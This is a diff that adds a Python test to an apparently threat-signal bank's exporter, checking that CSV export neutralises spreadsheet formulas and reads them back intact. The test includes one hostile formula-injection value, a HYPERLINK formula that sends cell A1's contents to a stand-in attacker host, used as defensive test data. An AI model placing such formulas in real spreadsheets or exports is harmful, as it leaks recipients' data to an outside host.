@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from pathlib import Path
@@ -109,3 +110,22 @@ def test_export_honours_tlp_and_status(bank_store: Engine, partners: tuple[Membe
     assert export_bank(bank_store, out, "te-signals") == 0
     assert export_bank(bank_store, out, "te-json", include_inactive=True) == 1
     assert json.loads(out.read_text())["status"] == "NON_MALICIOUS"
+
+
+def test_csv_export_neutralises_formulas_and_reads_back(bank_store: Engine, partners: tuple[Member, Member],
+                                                         tmp_path: Path) -> None:
+    a, b = partners
+    signals = tmp_path / "a.txt"
+    signals.write_text(f"pdq {PDQ} logo\n")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    import_file(bank_store, signals, "te-signals", a.id, "x", make_labels("logo", hostile, "green"))
+    out = tmp_path / "bank.csv"
+    assert export_bank(bank_store, out, "jointwatch-csv", member=a.id) == 1
+    [row] = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    # OWASP: a cell a spreadsheet would run starts with a quote; hashes and numbers are untouched
+    assert row["group"] == "'" + hostile and row["pdq"] == PDQ
+    # our own import reads what was meant
+    import_file(bank_store, out, "jointwatch-csv", b.id, "y", make_labels(OTHER))
+    assert export_bank(bank_store, tmp_path / "b.json", "jointwatch-json", member=b.id) == 1
+    [theirs] = json.loads((tmp_path / "b.json").read_text())["items"]
+    assert theirs["group"] == hostile
